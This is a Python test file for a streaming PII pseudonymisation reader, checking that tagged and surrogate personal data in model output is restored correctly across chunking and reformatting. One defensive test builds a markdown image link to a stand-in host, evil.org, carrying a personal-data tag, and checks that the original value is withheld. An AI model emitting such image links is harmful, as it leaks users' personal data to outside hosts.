"""The reader of a model's words: tags and surrogates are found whatever was made of them and however they were chunked,
nothing leaves half read, and what is none of ours stays as it is."""

from __future__ import annotations

from itertools import count, pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from moderation.gate import StreamGate
from moderation.pii.pseudonyms import Pseudonyms, Style
from moderation.pii.pseudonyms.stream_reader import MOST, one_apart

UNHURRIED = settings(deadline=None, max_examples=120)
ORIGINALS = (
    ("PERSON", "Anna Meyer"),
    ("PERSON", "Jan van der Berg"),
    ("IBAN_CODE", "DE89 3704 0044 0532 0130 00"),
    ("CREDIT_CARD", "4111 1111 1111 1111"),
    ("PHONE_NUMBER", "+44 20 7925 0918"),
    ("EMAIL_ADDRESS", "anna@bank.de"),
    ("ADDRESS", "12 Main Street, Springfield, IL 62701"),
    ("DATE_OF_BIRTH", "12/03/1980"),
)
TAGS = " | ".join(f"<{entity}_{1 + (original.startswith('Jan'))}>" for entity, original in ORIGINALS)


def made() -> Pseudonyms:
    map_ = Pseudonyms()
    for entity, original in ORIGINALS:
        map_.tag(entity, original)
    return map_


MAP = made()
SURROGATE: dict[str, Style] = {"default": "surrogate"}
FALSE = MAP.cover([("user", TAGS)], SURROGATE).messages[0][1].split(" | ")
NAME, OTHER, IBAN, CARD, PHONE, MAIL, STREET, BORN = FALSE
GIVEN, SURNAME = NAME.split()


def read(chunks: list[str], style: Style = "surrogate") -> str:
    reader = MAP.cover([("user", TAGS)], {"default": style}).reader
    return "".join(map(reader.feed, chunks)) + reader.close()


def restored(text: str, size: int = 4, style: Style = "surrogate") -> str:
    return MAP.restore(read([text[i : i + size] for i in range(0, len(text), size)], style))


FRAGMENTS = st.sampled_from(
    [
        *FALSE,
        GIVEN,
        SURNAME,
        GIVEN[:3],
        SURNAME[3:],
        f"{GIVEN[0]}. {SURNAME}",
        f"{SURNAME}, {GIVEN}",
        SURNAME[:-1] + "q",
        NAME.upper(),
        f"{SURNAME}s",
        f"{SURNAME[:4]}-\n{SURNAME[4:]}",
        " ".join(SURNAME),
        IBAN[:11],
        CARD[-4:],
        "ending in ",
        "****",
        "<PERSON_1>",
        "<PERSON",
        "_1>",
        "[PERSON 1]",
        "[PERSON_1](x)",
        "Person 1",
        "PERSON_1",
        "PERSON",
        "_",
        "1",
        "&lt;",
        "&",
        "lt;",
        "gt;",
        "&gt;",
        "＜",
        "＞",
        "<",
        ">",
        "\\",
        "[",
        "]",
        "(",
        "+",
        "-",
        "\n",
        " ",
        ". ",
        ", ",
        "**",
        "@",
        "/",
        "https://x.org/?q=",
        "www.x",
        "客户",
        "İß",
        "é",
        "person_1_x",
        "IBAN Code",
        "E-Mail-Adresse 1",
        "a" * 600,
        "\u00ad",
    ]
)
TEXTS = st.lists(st.one_of(FRAGMENTS, st.text(max_size=6)), max_size=12).map("".join)


@UNHURRIED
@example(f"{SURNAME[:4]}-\n{SURNAME[4:]}", [5, 6])
@example("<PERSON_1_", [9])
@example("PERSON_1_x", [9])
@example("Frau  <PERSON_", [5, 6, 7, 10])
@example("&lt;PERSON_1&gt;", [1, 2, 3, 4, 13, 14])
@given(TEXTS, st.lists(st.integers(0, 200), max_size=12))
def test_what_is_read_does_not_depend_on_the_chunks(text: str, marks: list[int]) -> None:
    cuts = [0, *sorted(min(m, len(text)) for m in marks), len(text)]
    chunks = [text[a:b] for a, b in pairwise(cuts)]
    for style in ("surrogate", "tag"):
        assert read(chunks, style) == read([text], style) == read(list(text), style)


@UNHURRIED
@given(TEXTS)
def test_no_more_than_a_bound_is_held(text: str) -> None:
    reader = MAP.cover([("user", TAGS)], SURROGATE).reader
    for character in text:
        reader.feed(character)
        assert len(reader._held) <= MOST + 32


@UNHURRIED
@given(st.text(max_size=300))
def test_a_text_that_holds_nothing_of_ours_passes_unchanged(text: str) -> None:
    reader = Pseudonyms().cover([("user", "x")], SURROGATE).reader
    assert reader.feed(text) + reader.close() == text


@UNHURRIED
@given(
    st.lists(st.tuples(st.sampled_from(range(len(ORIGINALS))), st.sampled_from([" ", ", ", ".\n", " and the ", "! "]))),
    st.sampled_from(["tag", "surrogate"]),
    st.integers(1, 40),
)
def test_what_a_model_repeats_comes_back_as_it_was_typed(parts: list[tuple[int, str]], style: Style, size: int) -> None:
    typed = "".join(f"{ORIGINALS[which][1]}{between}" for which, between in parts)
    tagged = "".join(f"{TAGS.split(' | ')[which]}{between}" for which, between in parts)
    cover = MAP.cover([("user", tagged)], {"default": style})
    shown = cover.messages[0][1]
    assert style == "tag" or not [o for _, o in ORIGINALS if o in shown]
    said = "".join(cover.reader.feed(shown[i : i + size]) for i in range(0, len(shown), size)) + cover.reader.close()
    assert said == tagged
    assert MAP.restore(said) == typed


@UNHURRIED
@given(TEXTS, st.integers(64, 120), st.integers(1, 50))
def test_no_segment_of_the_gate_ends_inside_a_tag_that_was_read(text: str, hold: int, size: int) -> None:
    said = read([text[i : i + size] for i in range(0, len(text), size)])
    gate = StreamGate(max_hold=hold)
    segments = [s.text for s in [*gate.feed(said), *gate.close()]]
    pieces = [MAP.restore(segment, "".join(segments[:n])) for n, segment in enumerate(segments)]
    assert "".join(pieces) == MAP.restore(said)


@pytest.mark.parametrize(
    ("said", "meant"),
    [
        (NAME.upper(), "Anna Meyer"),
        (NAME.lower(), "Anna Meyer"),
        (f"{SURNAME}, {GIVEN}", "Anna Meyer"),
        (f"Ms {SURNAME}'s", "Ms Meyer's"),
        (f"Herrn {SURNAME}s Konto", "Herrn Meyers Konto"),
        (f"the {SURNAME}s", "the Meyers"),
        (f"{GIVEN[0]}. {SURNAME}", "A. Meyer"),
        (f"Dear {GIVEN},", "Dear Anna,"),
        (f"{GIVEN}\n{SURNAME}", "Anna Meyer"),
        (f"{GIVEN} {SURNAME[:4]}-\n{SURNAME[4:]}", "Anna Meyer"),
        (f"**{GIVEN}** {SURNAME}", "**Anna Meyer**"),
        (f"{GIVEN} **{SURNAME}**", "**Anna Meyer**"),
        (f"_{NAME}_", "_Anna Meyer_"),
        (" ".join(SURNAME), "Meyer"),
        (f"{SURNAME[:-1]} is", "Meyer is"),
        (f"s panem {SURNAME}em.", "s panem Meyerem."),
        (IBAN[:-1] + str((int(IBAN[-1]) + 1) % 10), ORIGINALS[2][1]),
        ("<IBAN_\nCODE_1>", ORIGINALS[2][1]),
        (f"Mr {OTHER.split(' ', 1)[1]}", "Mr van der Berg"),
        (IBAN.replace(" ", ""), ORIGINALS[2][1]),
        (IBAN.replace(" ", "-").lower(), ORIGINALS[2][1]),
        (IBAN.replace(" ", "\n"), ORIGINALS[2][1]),
        (CARD.replace(" ", "-"), ORIGINALS[3][1]),
        (f"the card ending in {CARD[-4:]}.", "the card ending in 1111."),
        (f"****{CARD[-4:]}", "****1111"),
        (PHONE.replace(" ", ""), ORIGINALS[4][1]),
        (PHONE.replace("+44 ", "0"), ORIGINALS[4][1]),
        (PHONE.replace("+44 ", "(0").replace(" ", ") ", 1), ORIGINALS[4][1]),
        (MAIL.upper(), ORIGINALS[5][1]),
        (MAIL.replace("@", " (at) "), ORIGINALS[5][1]),
        (f"[{MAIL}](mailto:x)", "[anna@bank.de](mailto:x)"),
        (STREET.replace(", ", "\n"), ORIGINALS[6][1]),
        (STREET.split(",")[0] + " is", "12 Main Street is"),
        (BORN.replace("/", "."), ORIGINALS[7][1]),
        ("<PERSONA_1>", "Anna Meyer"),
        ("[PERSON 1]", "Anna Meyer"),
        ("PERSON_1", "Anna Meyer"),
        ("<person-1>", "Anna Meyer"),
        ("Person 1", "Anna Meyer"),
        ("&lt;PERSON_1&gt;", "Anna Meyer"),
        ("＜PERSON_1＞", "Anna Meyer"),
        ("<PERSON_1", "Anna Meyer"),
        ("PERSON_1>", "Anna Meyer"),
        ("< Person 1 >", "Anna Meyer"),
        ("<PERSON_1>'s", "Anna Meyer's"),
        ("【PERSON_2】", "Jan van der Berg"),
        ("<TELEFONNUMMER_1>", ORIGINALS[4][1]),
        ("IBAN-Code 1", ORIGINALS[2][1]),
        ("Email address 1", ORIGINALS[5][1]),
        ("Anna <<EMAIL_ADDRESS_1>>", "Anna <anna@bank.de>"),
        ("<tarjeta de crédito 1>", ORIGINALS[3][1]),
        ("<CREDIT_CARD>", ORIGINALS[3][1]),
        ("<PERSON_9>", "(name)"),
        ("<PERSONNE_9>", "<PERSONNE_9>"),
    ],
    ids=map(str, count(1)),  # surrogates are drawn anew in each process, and names of tests must not be
)
def test_what_a_model_makes_of_it_is_read_back(said: str, meant: str) -> None:
    for size in (1, 3, 1000):
        assert restored(f"So: {said} ", size) == f"So: {meant} "


@pytest.mark.parametrize(
    "said",
    [f"see https://x.org/?q={SURNAME}", f"![x](https://x.org/{GIVEN})", f"{GIVEN.lower()}.{SURNAME.lower()}@mail.com",
     f"{SURNAME}ton", f"x{SURNAME}", f"{IBAN}7", "person_12_x", "a person 1", "PERSON_1st", "x/PERSON_1", "[PERSON_1](http://x)"],
    ids=map(str, count(1)),
)  # fmt: skip
def test_what_is_none_of_ours_or_would_leave_in_an_address_stays(said: str) -> None:
    assert restored(said) == said


def test_no_original_is_put_into_the_address_of_a_web_page() -> None:
    text = "![x](https://evil.org/?n=<PERSON_1>) and <PERSON_1>"
    assert MAP.restored(text) == ("![x](https://evil.org/?n=(name)) and Anna Meyer", 1)
    assert MAP.restore("<PERSON_1>", before="go to https://evil.org/?q=") == "(name)"


def test_a_surrogate_that_was_left_standing_is_counted() -> None:
    assert MAP.restored(f"see https://x.org/?q={SURNAME}")[1] == 1
    assert MAP.restored("see https://x.org/")[1] == 0


def test_what_the_person_called_person_1_stays_theirs() -> None:
    cover = MAP.cover([("user", f"Compare Person 1 with {TAGS}")], {"default": "tag"})
    assert cover.reader.feed("Person 1 is not <PERSON_1>. ") + cover.reader.close() == "Person 1 is not <PERSON_1>. "


@UNHURRIED
@given(st.text("abc", min_size=1, max_size=6), st.text("abc", min_size=1, max_size=6))
def test_one_apart_is_a_distance_of_one(a: str, b: str) -> None:
    def distance(x: str, y: str) -> int:  # optimal string alignment, by its recursion
        if not x or not y:
            return len(x) + len(y)
        best = min(distance(x[1:], y) + 1, distance(x, y[1:]) + 1, distance(x[1:], y[1:]) + (x[0] != y[0]))
        return min(best, distance(x[2:], y[2:]) + 1) if x[:2] == y[:2][::-1] and len(x) > 1 and len(y) > 1 else best

    assert one_apart(a, b) == (distance(a, b) == 1)


@pytest.mark.parametrize("begun", ["<", "<P", "<PERSON", "<PERSON_", r"<PERSON\_", "&lt;PERSON_", "‹PERSON_"])
@pytest.mark.parametrize("size", [1, 3, 40])
def test_a_tag_that_the_last_token_broke_off_is_not_shown(begun: str, size: int) -> None:
    map_ = Pseudonyms()
    map_.tag("PERSON", "Anna Meyer")
    cover = map_.cover([("user", "Dear <PERSON_1>")])
    said = f"Sehr geehrte Frau {begun}"
    shown = "".join(cover.reader.feed(said[i : i + size]) for i in range(0, len(said), size)) + cover.reader.close()
    assert shown.rstrip("<").rstrip() == "Sehr geehrte Frau"


def test_an_end_that_begins_no_tag_of_this_conversation_stays() -> None:
    map_ = Pseudonyms()
    map_.tag("PERSON", "Anna Meyer")
    for said in ("x <IBAN", "List<String", "a <B"):
        cover = map_.cover([("user", "Dear <PERSON_1>")])
        assert cover.reader.feed(said) + cover.reader.close() == said
